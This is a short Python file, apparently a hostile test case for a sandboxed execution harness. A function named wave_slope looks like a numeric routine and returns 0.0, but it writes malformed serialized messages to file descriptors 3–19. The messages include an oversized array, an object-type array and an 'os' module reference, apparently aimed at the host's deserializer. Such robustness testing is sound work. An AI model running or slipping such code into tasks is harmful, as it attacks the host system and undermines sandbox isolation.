# Sends an array that claims more entries than it has bytes, of a type that holds objects.
# on: wave_slope
# %%
import os

def wave_slope(x):
    import json

    for content in (["value", ["array", "<f8", [2**40], "AAAA"]], ["value", ["array", "|O", [1], "AAAAAAAAAAA="]], ["value", ["object", "os"]]):
        data = json.dumps(["list", content[0], content[1]]).encode()
        for pipe in range(3, 20):
            try:
                os.write(pipe, len(data).to_bytes(8, "big") + data)
            except OSError:
                pass
    return 0.0
